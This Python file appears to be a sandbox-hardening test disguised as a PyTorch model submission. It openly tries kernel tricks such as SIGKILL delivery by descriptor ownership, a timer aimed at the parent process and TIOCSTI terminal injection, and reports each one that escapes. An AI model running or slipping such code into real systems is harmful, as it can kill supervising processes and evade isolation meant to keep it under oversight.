# H8 honest: has the kernel send signals to others, by descriptors, timers and terminals
import ctypes
import fcntl
import os
import signal
import struct

from torch import nn

print("attacking", flush=True)
libc = ctypes.CDLL(None, use_errno=True)
F_SETSIG, F_SETOWN_EX, F_NOTIFY, F_SETLEASE = 10, 15, 1026, 1024
FIOSETOWN, SIOCSPGRP, TIOCSTI = 0x8901, 0x8902, 0x5412
TIMER_CREATE = {"x86_64": 222, "aarch64": 107}[os.uname().machine]
SIGEV_THREAD_ID = 4

reading, writing = os.pipe()
parent = os.getppid()
timer = ctypes.create_string_buffer(struct.pack("QiiI", 0, signal.SIGKILL, SIGEV_THREAD_ID, parent), 64)


def make_timer():
    if libc.syscall(TIMER_CREATE, 0, timer, ctypes.create_string_buffer(8)) < 0:
        raise OSError


for name, call in {
    "set signal": lambda: fcntl.fcntl(reading, F_SETSIG, signal.SIGKILL),
    "set owner": lambda: fcntl.fcntl(reading, fcntl.F_SETOWN, parent),
    "set owner group": lambda: fcntl.fcntl(reading, fcntl.F_SETOWN, -os.getpgid(0)),
    "set owner in words": lambda: fcntl.fcntl(reading, F_SETOWN_EX, struct.pack("ii", 1, parent)),
    "set owner by ioctl": lambda: fcntl.ioctl(reading, FIOSETOWN, struct.pack("i", parent)),
    "set owner of socket": lambda: fcntl.ioctl(reading, SIOCSPGRP, struct.pack("i", parent)),
    "have changes told": lambda: fcntl.fcntl(os.open(".", os.O_RDONLY), F_NOTIFY, 2),
    "take a lease": lambda: fcntl.fcntl(os.open("lease", os.O_CREAT | os.O_RDONLY), F_SETLEASE, fcntl.F_RDLCK),
    "type into a terminal": lambda: fcntl.ioctl(0, TIOCSTI, b"x"),
    "set a timer for another thread": make_timer,
}.items():
    try:
        call()
        print("ESCAPED:", name, flush=True)
    except OSError:
        pass
os.write(writing, b"x")


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.out = nn.LazyLinear(10)

    def forward(self, x):
        return self.out(x)
